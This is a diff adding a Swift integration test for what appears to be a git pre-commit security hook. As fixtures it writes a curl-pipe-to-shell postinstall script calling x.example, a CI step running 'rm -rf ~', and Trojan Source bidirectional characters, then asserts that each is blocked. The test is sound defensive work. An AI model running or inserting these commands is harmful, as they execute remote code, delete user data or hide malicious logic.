@@ -249,6 +249,40 @@ final class GitIntegrationTests: XCTestCase {
         XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "b").status, 0)
     }
 
+    func testDangerousScriptsInStagedChanges() throws {
+        let repo = try GitRepo()
+        try repo.installHook()
+        try repo.write("package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"\n  }\n}\n")
+        try repo.git("add", ".")
+        let r = try repo.tryGit("commit", "-q", "-m", "postinstall")
+        XCTAssertNotEqual(r.status, 0)
+        XCTAssertTrue(r.stderr.contains("package.json:4") && r.stderr.contains("rce."), r.stderr)
+        try repo.git("rm", "-q", "--cached", "package.json")
+        // The same text documented in docs/ is data.
+        try FileManager.default.removeItem(at: repo.url.appendingPathComponent("package.json"))
+        try repo.write("docs/security.md", "Never add `\"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"` to package.json.\n")
+        try repo.write("docs/example-package.json.txt", "\"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"\n")
+        try repo.git("add", ".")
+        let ok = try repo.tryGit("commit", "-q", "-m", "docs")
+        XCTAssertEqual(ok.status, 0, ok.stderr)
+        // A CI step that deletes the home directory, added to an existing workflow.
+        try repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: swift test\n")
+        try repo.git("add", ".")
+        XCTAssertEqual(try repo.tryGit("commit", "-q", "-m", "ci").status, 0)
+        try repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: swift test\n      - run: |\n          echo cleaning\n          rm -rf ~\n")
+        try repo.git("add", ".")
+        let ci = try repo.tryGit("commit", "-q", "-m", "ci cleanup")
+        XCTAssertNotEqual(ci.status, 0)
+        XCTAssertTrue(ci.stderr.contains(".github/workflows/ci.yml:8"), ci.stderr)
+        // Trojan Source characters in an added line.
+        try repo.git("checkout", "-q", "--", ".")
+        try repo.write("src/auth.js", "const isAdmin = false; // \u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066}\n")
+        try repo.git("add", "src/auth.js")
+        let bidi = try repo.tryGit("commit", "-q", "-m", "bidi")
+        XCTAssertNotEqual(bidi.status, 0)
+        XCTAssertTrue(bidi.stderr.contains("src/auth.js:1") && bidi.stderr.contains("unicode.bidi-control"), bidi.stderr)
+    }
+
     func testInstallOutsideARepositoryFailsClearly() throws {
         let dir = try TempDir()
         let r = try CLI.run(["install", "--git"], cwd: dir.url, env: ["GIT_CEILING_DIRECTORIES": dir.url.deletingLastPathComponent().path])
